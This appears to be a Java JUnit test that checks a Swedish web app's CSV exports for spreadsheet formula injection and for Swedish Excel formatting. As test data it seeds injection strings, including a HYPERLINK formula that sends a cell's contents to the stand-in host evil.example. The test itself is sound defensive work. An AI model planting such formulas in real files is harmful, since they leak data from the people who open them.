package se.finsam.planering.web;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.io.StringReader;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.text.NumberFormat;
import java.text.ParsePosition;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Set;
import java.util.TreeSet;
import java.util.function.Supplier;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.jsoup.nodes.Document;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import se.finsam.planering.testsupport.AppTest;
import se.finsam.planering.testsupport.HttpSession;

/**
 * Every CSV file the app writes, found in the route table, with names that are formulas in the data: no cell
 * starts a formula in a spreadsheet program, and every file opens in Swedish Excel (byte order mark, semicolons,
 * decimal comma).
 */
class CsvExportTest extends AppTest {

    static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"klick\")";
    static final String SUMMA = "@SUM(1+1) Plus";
    static final String MINUS = "-2+3 Minus";
    static final String PLUS = "+1+1 Plus";
    static final String TEAM = "=1+2 Teamet";

    private static final Pattern TAL = Pattern.compile("-?\\d+(,\\d+)?");

    /** How each CSV route is fetched, with data that has formulas in it. */
    private static Map<String, Supplier<HttpResponse<String>>> hamtningar;

    @BeforeAll
    static void formlerIData() {
        app.jdbi().useHandle(h -> h.createUpdate("UPDATE team SET namn = :n WHERE namn = 'Jobbtorg Kista'")
                .bind("n", TEAM).execute());
        HttpSession admin = app.session().loginStaff("admin");
        String fil = "namn;e-post;organisation;roll;team\r\n"
                + "\"" + HYPERLINK.replace("\"", "\"\"") + "\";formel1@af.se;af;handlaggare;" + TEAM + "\r\n"
                + SUMMA + ";formel2@af.se;af;handlaggare;" + TEAM + "\r\n"
                + MINUS + ";formel3@af.se;af;styrgrupp;\r\n"
                + PLUS + ";formel4@af.se;af;styrgrupp;\r\n";
        admin.get("/admin/personal/import");
        HttpResponse<String> granskning = admin.postFil("/admin/personal/import", Map.of(), "personal.csv",
                "text/csv", fil.getBytes(StandardCharsets.UTF_8));
        assertEquals(200, granskning.statusCode(), HttpSession.html(granskning).text());
        HttpResponse<String> resultat = admin.post("/admin/personal/import/spara",
                HttpSession.formData(HttpSession.html(granskning), "form[action=/admin/personal/import/spara]"));
        assertEquals(200, resultat.statusCode(), resultat.body());
        Document sida = HttpSession.html(resultat);
        Map<String, String> lankar = HttpSession.formData(sida, "form[action=/admin/personal/import/lankar.csv]");

        HttpSession koordinator = app.session().loginStaff("koordinator");
        HttpSession styrgrupp = app.session().loginStaff("styrgrupp");
        hamtningar = new LinkedHashMap<>();
        hamtningar.put("/admin/personal/import/lankar.csv",
                () -> admin.post("/admin/personal/import/lankar.csv", lankar));
        hamtningar.put("/statistik/statistik.csv", () -> styrgrupp.get("/statistik/statistik.csv?ar=2026"));
        hamtningar.put("/statistik/personfil.csv", () -> koordinator.get("/statistik/personfil.csv?ar=2026"));
        hamtningar.put("/statistik/import/mall.csv", () -> koordinator.get("/statistik/import/mall.csv"));
        hamtningar.put("/statistik/import/koder.csv", () -> koordinator.get("/statistik/import/koder.csv"));
        hamtningar.put("/enkater/svar.csv", () -> styrgrupp.get("/enkater/svar.csv"));
        hamtningar.put("/enkater/resultat.csv", () -> styrgrupp.get("/enkater/resultat.csv"));
        // The year page names its file by the year's path segment ("2026.csv"), not by a path of its own.
        hamtningar.put("/statistik/ar/{ar}.csv", () -> styrgrupp.get("/statistik/ar/2026.csv"));
    }

    private static List<CSVRecord> lasSomSvenskaExcel(String path, HttpResponse<String> svar) throws IOException {
        assertEquals(200, svar.statusCode(), path + ": " + svar.body());
        assertTrue(svar.headers().firstValue("Content-Type").orElse("").startsWith("text/csv"), path);
        assertTrue(svar.body().startsWith("\uFEFF"), path + ": byte order mark");
        return CSVFormat.EXCEL.builder().setDelimiter(';').get().parse(new StringReader(svar.body().substring(1)))
                .getRecords();
    }

    @Test
    void ingenCellIHelaCsvFilernaBorjarEnFormel() throws IOException {
        Set<String> csvRoutes = app.app().routes().stream().map(Ruttabell.Route::path)
                .filter(p -> p.endsWith(".csv")).collect(Collectors.toCollection(TreeSet::new));
        Set<String> hamtade = new TreeSet<>(hamtningar.keySet());
        assertTrue(hamtade.containsAll(csvRoutes),
                "each CSV route of the route table is fetched here with formulas in its data: " + csvRoutes);
        Map<String, List<String>> neutraliserade = new LinkedHashMap<>();
        for (var h : hamtningar.entrySet()) {
            List<String> skyddade = new ArrayList<>();
            for (CSVRecord rad : lasSomSvenskaExcel(h.getKey(), h.getValue().get())) {
                for (String cell : rad) {
                    assertFalse(!cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0
                            && !TAL.matcher(cell).matches(), h.getKey() + ": a formula: " + cell);
                    if (cell.startsWith("'")) {
                        skyddade.add(cell.substring(1));
                    }
                }
            }
            neutraliserade.put(h.getKey(), skyddade);
        }
        assertTrue(neutraliserade.get("/admin/personal/import/lankar.csv")
                .containsAll(List.of(HYPERLINK, SUMMA, MINUS, PLUS)), neutraliserade.toString());
        assertTrue(neutraliserade.get("/statistik/personfil.csv").contains(TEAM), neutraliserade.toString());
        assertTrue(neutraliserade.get("/enkater/resultat.csv").contains(TEAM), neutraliserade.toString());
    }

    @Test
    void decimalerSkrivsMedKommaSomSvenskaExcelLaserDem() throws IOException {
        NumberFormat svenska = NumberFormat.getNumberInstance(Locale.forLanguageTag("sv-SE"));
        int decimaler = 0;
        for (var h : hamtningar.entrySet()) {
            for (CSVRecord rad : lasSomSvenskaExcel(h.getKey(), h.getValue().get())) {
                for (String cell : rad) {
                    assertFalse(cell.matches("-?\\d+\\.\\d+"), h.getKey() + ": Swedish Excel reads it as text: "
                            + cell);
                    if (cell.matches("-?\\d+,\\d+")) {
                        ParsePosition pos = new ParsePosition(0);
                        Number tal = svenska.parse(cell, pos);
                        assertEquals(cell.length(), pos.getIndex(), cell);
                        assertEquals(Double.parseDouble(cell.replace(',', '.')), tal.doubleValue(), 1e-9);
                        decimaler++;
                    }
                }
            }
        }
        assertTrue(decimaler > 0, "the times of the statistics have decimals");
    }

    @Test
    void enCellSkrivsEnligtReglerna() {
        assertEquals("\"'=1+1\"", CsvFil.cell("=1+1"));
        assertEquals("\"'\t=1\"", CsvFil.cell("\t=1"));
        assertEquals("\"'\r=1\"", CsvFil.cell("\r=1"));
        assertEquals("-3", CsvFil.cell("-3"));
        assertEquals("358,0", CsvFil.cell(358.0));
        assertEquals("12,25", CsvFil.cell(12.25));
        assertEquals("7", CsvFil.cell(7));
        assertEquals("\"a;b\"", CsvFil.cell("a;b"));
        assertEquals("\"sa \"\"hej\"\"\"", CsvFil.cell("sa \"hej\""));
        assertEquals("", CsvFil.cell(null));
        assertEquals("\uFEFFa;\"'=b\";3,5\r\n", new CsvFil().rad("a", "=b", 3.5).text());
    }
}
